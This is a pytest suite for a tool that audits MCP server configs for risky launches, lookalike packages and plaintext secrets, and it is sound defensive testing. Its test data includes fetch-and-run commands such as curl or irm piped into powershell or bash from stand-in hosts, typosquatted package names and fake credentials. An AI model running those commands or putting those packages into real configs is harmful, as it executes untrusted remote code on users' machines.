"""egresswatch audit: every seeded finding in the fixture homes is reported with
its exact codes, clean servers give none, and no secret leaks unmasked."""

from __future__ import annotations

import json
import os
import pty
import select
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from egresswatch.audit.findings import Finding, command_line, reaches
from egresswatch.audit.lookalike import lookalike, skeleton
from egresswatch.audit.rules import parse_launch
from egresswatch.audit.scan import audit
from egresswatch.audit.secrets import mask, redact, redact_argv, scan_value
from egresswatch.audit.server import audit_server
from egresswatch.cli.main import cli
from egresswatch.mcp.discovery import ServerDef, discover

FIXTURES = Path(__file__).parent / "fixtures" / "homes"
HOMES = [FIXTURES / "linux" / "alice", FIXTURES / "macos" / "bob", FIXTURES / "windows" / "carol"]
PROJECT = FIXTURES / "projects" / "webapp"

EXPECTED: dict[str, set[str]] = {
    "#0": {"lookalike_package", "not_sandboxed"},
    "anthropic-bridge": {"not_sandboxed", "secret_in_env"},
    "aws": {"not_sandboxed", "secret_in_env", "unpinned_package"},
    "bunx-srv": {"not_sandboxed", "unpinned_package"},
    "cline-in-cursor": {"not_sandboxed"},
    "docker-bad": {"docker_host_mount", "docker_host_network", "docker_privileged", "unpinned_image"},
    "fetch-pinned": {"not_sandboxed"},
    "gemini-headers": {"secret_in_headers"},
    "gemini-remote": {"plaintext_http"},
    "github": {"not_sandboxed", "secret_in_env", "unpinned_package"},
    "goose-fetch": {"not_sandboxed", "unpinned_package"},
    "goose-slackhook": {"not_sandboxed", "secret_in_env"},
    "insecure-remote": {"plaintext_http"},
    "installer": {"not_sandboxed", "pipe_to_shell"},
    "installer2": {"not_sandboxed", "pipe_to_shell"},
    "lookalike-cyrillic": {"lookalike_package", "not_sandboxed"},
    "mac-docker-sock": {"docker_host_mount"},
    "mac-github": {"secret_in_env", "unpinned_image"},
    "mac-url-secret": {"secret_in_url"},
    "mac-zed": {"not_sandboxed", "unpinned_package"},
    "openai-tool": {"not_sandboxed", "secret_in_env"},
    "pipx-srv": {"not_sandboxed", "secret_in_env", "unpinned_package"},
    "playwright": {"not_sandboxed", "unpinned_package"},
    "pnpm-srv": {"not_sandboxed", "unpinned_package"},
    "postgres-typo": {"lookalike_package", "not_sandboxed", "secret_in_args"},
    "proj-continue": {"lookalike_package", "not_sandboxed"},
    "proj-cursor": {"not_sandboxed", "unpinned_package"},
    "proj-gemini": {"docker_host_mount", "unpinned_image"},
    "proj-mcp": {"not_sandboxed"},
    "proj-roo": {"not_sandboxed"},
    "ref-env": {"not_sandboxed"},
    "slack": {"not_sandboxed", "secret_in_env"},
    "sqlite-yaml": {"not_sandboxed", "unpinned_package"},
    "ssh-bridge": {"not_sandboxed", "secret_in_env"},
    "stripe": {"not_sandboxed", "secret_in_args"},
    "wget-shell": {"not_sandboxed", "pipe_to_shell"},
    "win-memory": {"not_sandboxed", "unpinned_package"},
    "zed-old": {"not_sandboxed", "unpinned_package"},
}
CLEAN = {
    "sentry", "remote-windsurf", "gh-input", "zed-new", "goose-remote", "insiders-clean",
    "mac-cursor-remote", "proj-vscode", "proj-codex", "proj-zed",
}  # fmt: skip
# Every credential value seeded in the fixtures (fake, but shaped like the real thing).
SECRETS = [
    "ghp_FAKEfake0123456789abcdefghijABCDEFGH",
    "github_pat_11FAKE0000000000000000_FAKEfakeFAKEfake0123456789abcdefghijklmnopqrstuvwxyz",
    "xoxb-1234567890-1234567890123-FAKEfakeFAKEfakeFAKEfake",
    "sk-proj-FAKEfake1234567890FAKEfake1234567890abcd",
    "sk-ant-api03-FAKEfake1234567890FAKEfake1234567890-abcdEFGH",
    "glpat-FAKEfake12345678ABCD",
    "sk_test_FAKEfake1234567890abcdEF",
    "AIzaSyFAKEfake1234567890abcdefghijklmno",
    "AKIAIOSFODNN7EXAMPLE",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "ATATT3xFfGF0T4kZ9qL2mW8vR5nB1cD7eH6jK3",
    "S3cretPassw0rd",
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQFAKEFAKEFAKE",
    "https://hooks.slack.com/services/T00000000/B00000000/FAKEfakeFAKEfakeFAKEfake",
    "Zq8vK2mX9pL4rT7wQ1",
]


@pytest.fixture()
def homes(tmp_path: Path) -> tuple[list[Path], Path]:
    """The fixture homes copied with normal permissions (a checkout's umask must not matter)."""
    dst = tmp_path / "homes"
    shutil.copytree(FIXTURES, dst, symlinks=True)
    for root, _dirs, files in os.walk(dst):
        os.chmod(root, 0o755)
        for f in files:
            os.chmod(os.path.join(root, f), 0o644)
    return [dst / h.relative_to(FIXTURES) for h in HOMES], dst / PROJECT.relative_to(FIXTURES)


def _codes(findings: list[Finding]) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for f in findings:
        out.setdefault(f.server, set()).add(f.code)
    return out


def test_seeded_findings_exact(homes: tuple[list[Path], Path]) -> None:
    home_dirs, project = homes
    d = discover(home_dirs, project_dirs=[project])
    assert d.warnings == ()
    names = {s.name for s in d.servers}
    assert names == set(EXPECTED) | CLEAN
    findings = audit(d.servers, d.files)
    assert _codes(findings) == EXPECTED
    assert all(f.severity in ("info", "low", "medium", "high", "critical") for f in findings)
    # most severe first
    ranks = ["info", "low", "medium", "high", "critical"]
    assert [ranks.index(f.severity) for f in findings] == sorted(
        (ranks.index(f.severity) for f in findings), reverse=True
    )


def test_severities_and_fix_texts(homes: tuple[list[Path], Path]) -> None:
    home_dirs, project = homes
    d = discover(home_dirs, project_dirs=[project])
    f = {(x.server, x.code): x for x in audit(d.servers)}
    assert f[("installer", "pipe_to_shell")].severity == "critical"
    assert f[("gemini-remote", "plaintext_http")].severity == "high"
    assert f[("docker-bad", "docker_privileged")].severity == "high"
    assert (
        f[("docker-bad", "docker_host_mount")].finding
        == "container mounts a whole home directory (/home/alice)"
    )
    assert f[("proj-gemini", "docker_host_mount")].finding == "container mounts the host root (/)"
    assert f[("mac-docker-sock", "docker_host_mount")].finding.startswith(
        "container mounts the Docker socket"
    )
    assert (
        f[("github", "not_sandboxed")].severity == "low"
        and f[("openai-tool", "not_sandboxed")].severity == "info"
    )
    assert f[("github", "unpinned_package")].fix.endswith(
        "npx -y @modelcontextprotocol/server-github@<version>"
    )
    assert f[("playwright", "unpinned_package")].fix.endswith("npx @playwright/mcp@<version>")
    assert f[("goose-fetch", "unpinned_package")].fix.endswith("uvx mcp-server-fetch==<version>")
    assert f[("pipx-srv", "unpinned_package")].fix.endswith("pipx run mcp-atlassian==<version>")
    assert f[("pnpm-srv", "unpinned_package")].finding.startswith(
        "pnpm dlx fetches exa-mcp-server@^1.0.0 (version '^1.0.0'"
    )
    assert f[("proj-cursor", "unpinned_package")].fix.endswith(
        "--from git+https://github.com/example/mcp-thing@<commit-sha> mcp-thing"
    )
    assert "mcp/filesystem@sha256:<digest>" in f[("docker-bad", "unpinned_image")].fix
    assert f[("win-memory", "unpinned_package")].fix.endswith(
        "npx -y @modelcontextprotocol/server-memory@<version>"
    )
    look = f[("lookalike-cyrillic", "lookalike_package")]
    assert (
        look.severity == "high"
        and "@modelcontextprotocol/server-filesystem" in look.finding
        and "U+043E" in look.finding
    )
    assert "@modelcontextprotocol/server-postgres" in f[("postgres-typo", "lookalike_package")].finding
    assert "mcp-remote" in f[("#0", "lookalike_package")].finding
    assert '"inputs"' in f[("openai-tool", "secret_in_env")].fix
    assert "${env:SLACK_BOT_TOKEN}" in f[("slack", "secret_in_env")].fix
    assert "env_vars" in f[("anthropic-bridge", "secret_in_env")].fix
    assert (
        f[("slack", "secret_in_env")].finding
        == "env SLACK_BOT_TOKEN holds a Slack token in plain text: xoxb…(54 chars)"
    )


def test_secret_kinds_and_masks(homes: tuple[list[Path], Path]) -> None:
    home_dirs, project = homes
    d = discover(home_dirs, project_dirs=[project])
    texts = [x.finding for x in audit(d.servers) if x.code.startswith("secret_")]
    joined = "\n".join(texts)
    for expected in (
        "GitHub token in plain text: ghp_…(40 chars)",
        "GitHub token in plain text: gith…(",
        "holds an AWS access key id in plain text: AKIA…(20 chars)",
        "env AWS_SECRET_ACCESS_KEY holds a high-entropy credential in plain text: …(40 chars)",
        "OpenAI API key in plain text: sk-p…(",
        "holds an Anthropic API key in plain text: sk-a…(",
        "GitLab token in plain text: glpa…(26 chars)",
        "Google API key in plain text: AIza…(39 chars)",
        "private key in plain text: …(",
        "Slack webhook in plain text: …(",
        "env JIRA_API_TOKEN holds a high-entropy credential in plain text: …(38 chars)",
        "argument 3 holds a password in URL: …(14 chars)",
        "argument --api-key holds a Stripe key: sk_t…(32 chars)",
        "URL holds a credential (URL parameter api_key): …(18 chars)",
    ):
        assert expected in joined, expected
    # a ${env:...} / ${input:...} reference is not a secret; neither is a team id
    assert not any("CONTEXT7" in t or "SLACK_TEAM_ID" in t or "AWS_REGION" in t for t in texts)


@pytest.mark.parametrize("fmt", ["table", "json"])
def test_no_secret_leaks_in_any_output(homes: tuple[list[Path], Path], fmt: str) -> None:
    home_dirs, project = homes
    # the secrets really are in the fixture files
    blob = "".join(p.read_text(errors="replace") for p in project.parent.parent.rglob("*") if p.is_file())
    assert all(s in blob or s.replace("/", "\\/") in blob for s in SECRETS)
    args = [a for h in home_dirs for a in ("--home", str(h))] + ["--project", str(project), "--format", fmt]
    runner = CliRunner()
    outputs = []
    for cmd in ("audit", "servers"):
        res = runner.invoke(cli, [cmd, *args])
        assert res.exit_code == 0, res.output
        outputs.append(res.stdout + res.stderr)
    text = "\n".join(outputs)
    for secret in SECRETS:
        for piece in {secret, secret[4:16], secret[-10:]}:
            assert piece not in text, piece
        assert json.dumps(secret)[1:-1] not in text
    if fmt == "json":
        rows = json.loads(outputs[0].split("\n[", 1)[0] if outputs[0].startswith("[") else outputs[0])
        assert {r["code"] for r in rows} >= {
            "secret_in_env",
            "secret_in_args",
            "secret_in_url",
            "secret_in_headers",
        }


def test_world_writable_config(homes: tuple[list[Path], Path]) -> None:
    home_dirs, _ = homes
    carol = home_dirs[2]
    cfg = carol / "AppData/Roaming/Claude/claude_desktop_config.json"
    d = discover([carol])
    assert [x for x in audit(d.servers, d.files) if x.code == "writable_config"] == []
    cfg.chmod(0o666)
    got = [x for x in audit(d.servers, d.files) if x.code == "writable_config"]
    assert [(x.severity, x.file, x.host, x.server) for x in got] == [
        ("high", str(cfg), "claude-desktop", "-")
    ]
    assert "world-writable" in got[0].finding and got[0].fix == f"chmod go-w {cfg}"
    cfg.chmod(0o664)
    assert "group-writable" in [x for x in audit([], d.files) if x.code == "writable_config"][0].finding
    cfg.chmod(0o644)
    cfg.parent.chmod(0o777)
    got = [x for x in audit([], d.files) if x.code == "writable_config"]
    assert len(got) == 1 and "without the sticky bit" in got[0].finding
    cfg.parent.chmod(0o1777)  # sticky: others cannot replace the owner's file
    assert audit([], d.files) == []


def _srv(
    command: str | None, *args: str, url: str | None = None, env: dict[str, str] | None = None
) -> ServerDef:
    return ServerDef(
        "cursor", "user", Path("/x/mcp.json"), "s", command, tuple(args), tuple((env or {}).items()), url
    )


@pytest.mark.parametrize(
    ("command", "args", "codes"),
    [
        ("npx", ("-y", "@modelcontextprotocol/server-github@2025.4.8"), {"not_sandboxed"}),
        ("npx", ("--yes", "--package=@playwright/mcp@latest", "mcp"), {"unpinned_package", "not_sandboxed"}),
        ("npm", ("exec", "--yes", "--", "firecrawl-mcp@1.x"), {"unpinned_package", "not_sandboxed"}),
        ("bun", ("x", "tavily-mcp@0.2.1"), {"not_sandboxed"}),
        ("uvx", ("mcp-server-git@2025.7.1",), {"not_sandboxed"}),
        ("uvx", ("mcp-server-git>=1.0",), {"unpinned_package", "not_sandboxed"}),
        ("uv", ("tool", "run", "mcp-server-time"), {"unpinned_package", "not_sandboxed"}),
        ("pipx", ("run", "--spec", "mcp-atlassian==0.11.9", "mcp-atlassian"), {"not_sandboxed"}),
        ("npx", ("-y", "github:example/mcp#main"), {"unpinned_package", "not_sandboxed"}),
        ("npx", ("-y", "github:example/mcp#" + "a" * 40), {"not_sandboxed"}),
        ("npx", ("-y", "./local-server"), {"not_sandboxed"}),
        ("C:\\Program Files\\nodejs\\npx.cmd", ("-y", "mcp-remote"), {"unpinned_package", "not_sandboxed"}),
        ("env", ("FOO=1", "npx", "-y", "mcp-remote@0.1.29"), {"not_sandboxed"}),
        ("bwrap", ("--ro-bind", "/usr", "/usr", "npx", "-y", "mcp-remote@0.1.29"), set()),
        ("docker", ("run", "-i", "--rm", "mcp/fetch:1.0"), set()),
        ("podman", ("run", "-i", "--rm", "mcp/fetch"), {"unpinned_image"}),
        (
            "docker",
            ("container", "run", "--pid=host", "--cap-add", "SYS_ADMIN", "mcp/git:1"),
            {"docker_privileged"},
        ),
        (
            "docker",
            ("run", "--net=host", "--volume=/root:/r", "mcp/git:1"),
            {"docker_host_network", "docker_host_mount"},
        ),
        ("docker", ("run", "-v", "${workspaceFolder}:/w", "-v", "/tmp/data:/d:ro", "mcp/git:1"), set()),
        ("docker", ("run", "-v", "mydata:/data", "mcp/git:1"), set()),
        ("docker", ("run", "mcp/githup:1"), {"lookalike_package"}),
        ("cmd", ("/c", "curl -s https://x.example/a.ps1 | powershell"), set()),
        ("powershell", ("-Command", "iex (irm https://x.example/i.ps1)"), {"pipe_to_shell", "not_sandboxed"}),
        ("bash", ("-c", "source <(curl -s https://x.example/env)"), {"pipe_to_shell", "not_sandboxed"}),
        ("sh", ("-c", "npx -y mcp-remote"), {"unpinned_package", "not_sandboxed"}),
        ("node", ("server.js", "--base-url", "http://api.example.com"), {"plaintext_http", "not_sandboxed"}),
        ("node", ("server.js", "--base-url", "http://127.0.0.1:8080"), {"not_sandboxed"}),
    ],
)
def test_launch_rules(command: str, args: tuple[str, ...], codes: set[str]) -> None:
    got = {f.code for f in audit_server(_srv(command, *args))}
    if command == "cmd":  # cmd /c with a pipe: shell text, flagged
        codes = {"pipe_to_shell", "not_sandboxed"}
    assert got == codes


def test_parse_launch_details() -> None:
    ln = parse_launch(
        "docker", ("run", "-i", "--rm", "-e", "A=1", "--name", "x", "ghcr.io:443/o/img:2@sha256:ab", "--flag")
    )
    assert (ln.runner, ln.name, ln.version, ln.pinned) == (
        "docker run",
        "ghcr.io:443/o/img",
        "sha256:ab",
        True,
    )
    ln = parse_launch("uvx", ("--with", "httpx", "--from", "mcp-server-fetch[all]==1.2", "mcp-server-fetch"))
    assert (ln.name, ln.version, ln.pinned, ln.spec_index) == ("mcp-server-fetch", "==1.2", True, -1)
    assert parse_launch("node", ("x.js",)).runner is None


def test_lookalike_rules() -> None:
    assert lookalike("npm", "@modelcontextprotocol/server-github") is None
    assert lookalike("npm", "@acme/weather-mcp") is None
    assert lookalike("pypi", "mcp_server_fetch") is None  # PEP 503: same project
    assert lookalike("npm", "mcp_remote") is not None  # npm: a different package
    for name in (
        "@modelcontextprotoco1/server-github",
        "@modelcontextprotocol/server-githuh",
        "@modelcontextprotocol/server-gіthub",
    ):
        hit = lookalike("npm", name)
        assert hit is not None and hit[0] == "high" and hit[1] == "@modelcontextprotocol/server-github", name
    hit = lookalike("npm", "@anthropic/mcp-server-postgres")
    assert hit is not None and hit[0] == "high" and "@anthropic-ai" in hit[2]
    hit = lookalike("npm", "@someone/server-postgres")
    assert hit is not None and hit[0] == "medium" and hit[1] == "@modelcontextprotocol/server-postgres"
    assert lookalike("pypi", "mcp-server-fetc") is not None
    assert skeleton("ѕеrvеr-0ne") == skeleton("server-one")


def test_secret_helpers() -> None:
    assert mask("ghp_" + "x" * 36, 4) == "ghp_…(40 chars)"
    assert mask("abc") == "…(3 chars)"
    for ref in ("${env:GITHUB_TOKEN}", "${input:token}", "$TOKEN", "${TOKEN}", "%TOKEN%"):
        assert scan_value(ref, "GITHUB_TOKEN") == []
    assert scan_value("changeme", "PASSWORD") == [] and scan_value("/run/secrets/token", "TOKEN_FILE") == []
    assert scan_value("postgres://user:${DB_PASS}@db/x") == []
    assert [h.kind for h in scan_value("Bearer Zx81kLqP0mN4vB7cQ2", "Authorization")] == [
        "high-entropy credential"
    ]
    assert [h.kind for h in scan_value("ASIAY34FZKBOKMUTVV7A")] == ["AWS access key id"]
    assert (
        redact("see https://u:hunter22@h/x?token=Zx81kLqP0mN4vB7c&q=1")
        == "see https://u:…(8 chars)@h/x?token=…(16 chars)&q=1"
    )
    assert redact_argv(["--api-key", "Zx81kLqP0mN4vB7c", "--token=${env:T}", "PASSWORD=Zx81kLqP0mN4"]) == [
        "--api-key", "…(16 chars)", "--token=${env:T}", "PASSWORD=…(12 chars)"
    ]  # fmt: skip
    s = _srv("npx", "-y", "x@1.0.0", "--token", "ghp_" + "A" * 36, env={"K": "v"})
    assert command_line(s) == "npx -y x@1.0.0 --token ghp_…(40 chars)"


def test_fail_on_and_exit_codes(homes: tuple[list[Path], Path]) -> None:
    home_dirs, _ = homes
    carol = str(home_dirs[2])
    runner = CliRunner()
    assert runner.invoke(cli, ["audit", "--home", carol]).exit_code == 0
    assert runner.invoke(cli, ["audit", "--home", carol, "--fail-on", "medium"]).exit_code == 1
    assert runner.invoke(cli, ["audit", "--home", carol, "--fail-on", "high"]).exit_code == 0
    assert runner.invoke(cli, ["audit", "--home", carol, "--fail-on", "bogus"]).exit_code == 2
    assert runner.invoke(cli, ["audit", "--format", "xml"]).exit_code == 2
    assert reaches([], "info") is False


def _run_in_pty(args: list[str], env: dict[str, str]) -> str:
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "egresswatch", *args], stdout=slave, stderr=subprocess.DEVNULL, env=env
    )
    os.close(slave)
    chunks = []
    while True:
        r, _, _ = select.select([master], [], [], 30)
        if not r:
            break
        try:
            data = os.read(master, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    proc.wait(timeout=30)
    os.close(master)
    return b"".join(chunks).decode()


def test_colour_only_on_tty_without_no_color(homes: tuple[list[Path], Path]) -> None:
    carol = str(homes[0][2])
    env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"}
    env["PYTHONPATH"] = str(Path(__file__).parent.parent)
    coloured = _run_in_pty(["audit", "--home", carol], env)
    assert "\x1b[33mmedium" in coloured
    plain = _run_in_pty(["audit", "--home", carol], {**env, "NO_COLOR": "1"})
    assert "medium" in plain and "\x1b[" not in plain
    piped = CliRunner().invoke(cli, ["audit", "--home", carol])
    assert "\x1b[" not in piped.stdout


def test_control_characters_are_escaped(tmp_path: Path) -> None:
    f = tmp_path / ".cursor" / "mcp.json"
    f.parent.mkdir()
    f.write_text(
        json.dumps({"mcpServers": {"evil\x1b[2J\u202e": {"command": "npx", "args": ["-y", "bad\x07pkg"]}}})
    )
    for cmd in ("audit", "servers"):
        res = CliRunner().invoke(cli, [cmd, "--home", str(tmp_path)])
        assert "\x1b" not in res.stdout and "\u202e" not in res.stdout and "\x07" not in res.stdout
        assert "evil\\x1b[2J\\u202e" in res.stdout


_words = st.sampled_from(
    ["npx", "-y", "uvx", "docker", "run", "-v", "--from", "--network", "host", "cmd", "/c", "bash", "-c", "env",
     "pipx", "pnpm", "dlx", "@a/b@1", "x==1", "mcp/git:latest", "http://a.b", "$(curl x)", "|", "sh", "--mount",
     "type=bind,src=/", "=", "@", ":", "bwrap", "--token", "ghp_" + "A" * 36, "-p", "--package", "uv", "tool"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(
    command=st.one_of(st.none(), _words, st.text(max_size=10)),
    args=st.lists(st.one_of(_words, st.text(max_size=15)), max_size=10),
    env=st.dictionaries(st.text(max_size=10), st.text(max_size=40), max_size=3),
    url=st.one_of(
        st.none(),
        st.text(max_size=30),
        st.sampled_from(["http://x/", "https://u:p@h/?token=abcdefgh12345678"]),
    ),
)
def test_audit_never_raises_and_never_leaks(
    command: str | None, args: list[str], env: dict[str, str], url: str | None
) -> None:
    s = ServerDef("h", "user", Path("/f"), "n", command, tuple(args), tuple(env.items()), url)
    findings = audit_server(s)
    text = " ".join(f.finding + f.fix for f in findings) + command_line(s)
    assert ("ghp_" + "A" * 36) not in text


def test_config_owned_by_another_user(homes: tuple[list[Path], Path]) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to chown")
    carol = homes[0][2]
    d = discover([carol])
    cfg = d.files[0].path
    os.chown(cfg, 65534, 65534)
    got = [x.finding for x in audit([], d.files)]
    assert got == [
        f"config file is owned by uid 65534, not by uid 0 who owns {cfg.parent}: that user can change it"
    ]
    os.chown(cfg, 0, 0)
    assert audit([], d.files) == []


def test_inline_bearer_token_and_api_key_are_audited() -> None:
    from egresswatch.mcp.formats import parse

    codex = parse(
        "codex",
        '[mcp_servers.r]\nurl = "https://mcp.example.net/mcp"\nbearer_token = "Zq8vK2mX9pL4rT7wQ1xY"\n',
        "codex",
        "user",
        Path("/c.toml"),
    )
    cont = parse(
        "continue_yaml",
        "mcpServers:\n  - name: k\n    type: sse\n    url: https://mcp.example.net/sse\n    apiKey: sk-proj-"
        + "Q" * 30
        + "\n",
        "continue",
        "user",
        Path("/c.yaml"),
    )
    assert codex.warnings == () and cont.warnings == ()
    found = audit([*codex.servers, *cont.servers])
    assert [(f.server, f.code) for f in found] == [("r", "secret_in_headers"), ("k", "secret_in_headers")]
    assert "bearer_token_env_var" in found[0].fix and "Q" * 8 not in found[1].finding
